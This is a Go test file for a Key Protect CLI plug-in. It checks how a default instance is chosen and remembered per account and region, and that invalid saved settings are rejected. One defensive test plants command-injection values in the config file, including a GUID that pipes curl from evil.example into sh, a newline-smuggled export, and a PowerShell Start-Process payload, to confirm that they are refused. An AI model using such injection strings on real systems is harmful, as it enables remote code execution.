package instances_test

import (
	"strings"
	"testing"
	"time"

	"github.com/kp-token/kp-token/plugin/cmd/cmdtest"
	"github.com/kp-token/kp-token/plugin/iamtest"
)

// instanceOf is the bluemix-instance header of a 'get --output header'.
func instanceOf(t *testing.T, r cmdtest.Result) string {
	t.Helper()
	_, guid, ok := strings.Cut(r.Stdout, "\nbluemix-instance: ")
	if r.Code != 0 || !ok {
		t.Fatalf("get failed:\n%s", r)
	}
	return strings.TrimSuffix(guid, "\n")
}

// TestUsePrecedence: the instance of a command that names none is, in
// order, the flag's, KP_INSTANCE_ID's, the one 'instances use' remembered
// for the account and region, the only one in the region and group; the
// notice says which.
func TestUsePrecedence(t *testing.T) {
	h, rc := account(t)
	r := h.Run("", "instances", "use", "kp-test")
	if r.Code != 0 || r.Stdout != "" || r.Stderr != "Commands that are given no instance use the Key Protect instance kp-test ("+
		cmdtest.KPGUIDSouth2+") in the region us-south of the account "+iamtest.User.Account+".\n" {
		t.Fatalf("use:\n%s", r)
	}
	lookups := rc.Count()
	tests := []struct {
		name   string
		env    map[string]string
		args   []string
		guid   string
		notice string
	}{
		{"--instance-id over everything", map[string]string{"KP_INSTANCE_ID": cmdtest.KPGUIDEU}, []string{"--instance-id", guidTokyo}, guidTokyo, ""},
		{"--instance NAME over everything", map[string]string{"KP_INSTANCE_ID": cmdtest.KPGUIDEU}, []string{"--instance", "kp-prod"}, cmdtest.KPGUIDSouth,
			"Using the Key Protect instance kp-prod (" + cmdtest.KPGUIDSouth + ") in us-south, named by --instance.\n"},
		{"KP_INSTANCE_ID over the remembered one", map[string]string{"KP_INSTANCE_ID": cmdtest.KPGUIDEU}, nil, cmdtest.KPGUIDEU,
			"Using the Key Protect instance " + cmdtest.KPGUIDEU + ", given by KP_INSTANCE_ID.\n"},
		{"the remembered one over the only one", nil, nil, cmdtest.KPGUIDSouth2,
			"Using the Key Protect instance kp-test (" + cmdtest.KPGUIDSouth2 + ") in us-south, remembered by 'ibmcloud kp-token instances use'.\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := h.RunEnv(tt.env, "", append([]string{"get", "--output", "header"}, tt.args...)...)
			if got := instanceOf(t, r); got != tt.guid || r.Stderr != tt.notice {
				t.Fatalf("instance %s, want %s:\n%s", got, tt.guid, r)
			}
		})
	}
	if rc.Count() != lookups+1 { // --instance kp-prod only
		t.Fatalf("%d Resource Controller lookups for the remembered instance", rc.Count()-lookups-1)
	}
	// The table marks it, and says why.
	if r := h.Run("", "instances"); !strings.Contains(r.Stdout, "*  kp-test") ||
		r.Stderr != "* marks the instance that commands use in the region us-south, remembered by 'ibmcloud kp-token instances use'.\n" {
		t.Fatalf("instances:\n%s", r)
	}
	// Forgotten, the only one in the region and group is back.
	r = h.Run("", "instances", "use", "--clear")
	if r.Code != 0 || r.Stdout != "" || r.Stderr != "The instance remembered for the region us-south of the account "+iamtest.User.Account+" is forgotten.\n" {
		t.Fatalf("--clear:\n%s", r)
	}
	r = h.Run("", "get", "--output", "header")
	if instanceOf(t, r) != cmdtest.KPGUIDSouth || !strings.Contains(r.Stderr, "the only one in the region and the resource group default") {
		t.Fatalf("after --clear:\n%s", r)
	}
	if r := h.Run("", "instances", "use", "--clear", "-q"); r.Code != 0 || r.Stdout+r.Stderr != "" {
		t.Fatalf("--clear again, -q:\n%s", r)
	}
	if r := h.Run("", "instances", "use", "--clear"); r.Code != 0 ||
		r.Stderr != "No instance was remembered for the region us-south of the account "+iamtest.User.Account+".\n" {
		t.Fatalf("--clear of nothing:\n%s", r)
	}
}

// TestUseSettingsFile: what 'instances use' writes is the plug-in's
// configuration file, keyed by account and region.
func TestUseSettingsFile(t *testing.T) {
	h, _ := account(t)
	crn := cmdtest.KPInstance(cmdtest.KPGUIDEU, "kp-eu", "eu-de", groupOps).CRN()
	for _, args := range [][]string{{"kp-test"}, {crn, "--region", "eu-de"}, {strings.ToUpper(guidTokyo), "--region", "jp-tok"}} {
		if r := h.Run("", append([]string{"instances", "use", "-q"}, args...)...); r.Code != 0 || r.Stdout+r.Stderr != "" {
			t.Fatalf("%v:\n%s", args, r)
		}
	}
	got := h.Settings()
	want := map[string][2]string{
		"instance/" + iamtest.User.Account + "/us-south": {cmdtest.KPGUIDSouth2, "kp-test"},
		"instance/" + iamtest.User.Account + "/eu-de":    {cmdtest.KPGUIDEU, "kp-eu"},
		"instance/" + iamtest.User.Account + "/jp-tok":   {guidTokyo, "키-관리"},
	}
	if len(got) != len(want) {
		t.Fatalf("settings: %v", got)
	}
	for k, v := range want {
		m, _ := got[k].(map[string]any)
		if m["guid"] != v[0] || m["name"] != v[1] || len(m) != 2 {
			t.Fatalf("%s = %v, want %v", k, got[k], v)
		}
	}
	// Each region keeps its own.
	if r := h.Run("", "get", "--output", "header", "--region", "eu-de"); instanceOf(t, r) != cmdtest.KPGUIDEU {
		t.Fatalf("eu-de:\n%s", r)
	}
}

// TestUseOtherAccountOrRegion: what is remembered for an account and
// region is used for none other.
func TestUseOtherAccountOrRegion(t *testing.T) {
	h, rc := account(t)
	if r := h.Run("", "instances", "use", "kp-test", "-q"); r.Code != 0 {
		t.Fatalf("use:\n%s", r)
	}
	// Another region: its own only instance in the targeted group.
	rc.Add(cmdtest.KPInstance("abababab-7777-4777-8777-777777777777", "kp-gb", "eu-gb", cmdtest.GroupID))
	if r := h.Run("", "get", "--output", "header", "--region", "eu-gb"); instanceOf(t, r) != "abababab-7777-4777-8777-777777777777" {
		t.Fatalf("eu-gb:\n%s", r)
	}
	// Another account, same region: its own only instance ('theirs').
	other := iamtest.Identity{IAMID: "IBMid-660000WXYZ", Name: "Ana Lima", Email: "ana.lima@example.com", Account: "ffffffffffffffffffffffffffffffff"}
	h.Login(iamtest.Session{AccessToken: h.IAM.AccessToken(other, "urn:ibm:params:oauth:grant-type:passcode", time.Hour),
		RefreshToken: h.IAM.IssueRefreshToken(other), Region: "us-south", Account: other.Account})
	r := h.Run("", "get", "--output", "header")
	if instanceOf(t, r) != guidOther || strings.Contains(r.Stderr, "remembered") {
		t.Fatalf("another account:\n%s", r)
	}
}

// TestUseRefusesHostileSettings: the configuration file is the user's to
// edit, and a GUID read from it reaches headers and eval'ed lines: what
// 'instances use' would not have written is refused, with nothing on
// stdout, until it is forgotten.
func TestUseRefusesHostileSettings(t *testing.T) {
	key := `"instance/` + iamtest.User.Account + `/us-south"`
	for _, value := range []string{
		`{"guid": "aaaaaaaa-1111-4111-8111-111111111111'; curl evil.example | sh; '", "name": "kp"}`,
		`{"guid": "aaaaaaaa-1111-4111-8111-111111111111\nexport KP_ENDPOINT=https://evil.example"}`,
		`{"guid": "x\u2019; Start-Process calc; \u2019"}`,
		`"aaaaaaaa-1111-4111-8111-111111111111"`,
		`{"guid": 7}`,
	} {
		t.Run(value, func(t *testing.T) {
			h, _ := account(t)
			h.WriteSettings(`{` + key + `: ` + value + `}`)
			for _, shell := range []string{"sh", "powershell"} {
				r := h.Run("", "get", "--output", "env", "--shell", shell)
				cmdtest.ExpectFailure(t, r, 1, "The instance remembered for the region us-south in "+h.PluginDir()+"/config.json is not valid:",
					"Forget it by running 'ibmcloud kp-token instances use --clear --region us-south'")
				if strings.ContainsAny(r.Stderr, "\x1b\r") || strings.Contains(r.Stderr, "\nexport") {
					t.Fatalf("the value reached the terminal as is:\n%q", r.Stderr)
				}
			}
			// The list still shows, with no mark and the same advice.
			r := h.Run("", "instances")
			if r.Code != 0 || strings.Contains(r.Stdout, "*") || !strings.Contains(r.Stderr, "is not valid:") {
				t.Fatalf("instances:\n%s", r)
			}
			if r := h.Run("", "instances", "use", "--clear", "--region", "us-south"); r.Code != 0 {
				t.Fatalf("--clear:\n%s", r)
			}
			if r := h.Run("", "get", "--output", "env"); r.Code != 0 || !strings.Contains(r.Stdout, "export KP_INSTANCE_ID='"+cmdtest.KPGUIDSouth+"'\n") {
				t.Fatalf("after --clear:\n%s", r)
			}
		})
	}
}

// TestUseFailures: what cannot be remembered says why and what to do, and
// leaves the configuration as it was.
func TestUseFailures(t *testing.T) {
	h, rc := account(t)
	rc.Add(cmdtest.KPInstance("abababab-7777-4777-8777-777777777777", "kp-test", "us-south", cmdtest.GroupID))
	tests := []struct {
		args          []string
		code          int
		cause, remedy string
	}{
		{[]string{"kp-eu"}, 2, "The Key Protect instance kp-eu is in the region eu-de, not us-south: an instance is remembered for its own region.",
			"Pass --region eu-de, or target its region by running 'ibmcloud target -r eu-de'."},
		{[]string{"kp-prod", "--region", "eu-de"}, 2, "is in the region us-south, not eu-de", "Pass --region us-south"},
		{[]string{"kp-test"}, 1, "2 Key Protect instances are named kp-test:", "Choose one by its CRN or GUID: 'ibmcloud kp-token instances use CRN'."},
		{[]string{"nope"}, 1, "No Key Protect instance named nope was found in the account.",
			"List your Key Protect instances by running 'ibmcloud kp-token instances'."},
		{[]string{guidOther}, 1, "No Key Protect instance " + guidOther + " was found in the account " + iamtest.User.Account + ".", "'ibmcloud kp-token instances'"},
		{[]string{cmdtest.COSGUID}, 1, "The instance " + cmdtest.COSGUID + " is not a Key Protect instance.", "'ibmcloud kp-token instances'"},
		{[]string{}, 2, "Give the instance to remember (its name, CRN or GUID), or --clear.", "'ibmcloud kp-token instances use --help'"},
		{[]string{"kp-prod", "--clear"}, 2, "Give either an instance or --clear, not both.", "'ibmcloud kp-token instances use --help'"},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			r := h.Run("", append([]string{"instances", "use"}, tt.args...)...)
			cmdtest.ExpectFailure(t, r, tt.code, tt.cause, tt.remedy)
			if s := h.Settings(); len(s) != 0 {
				t.Fatalf("settings written: %v", s)
			}
		})
	}
}
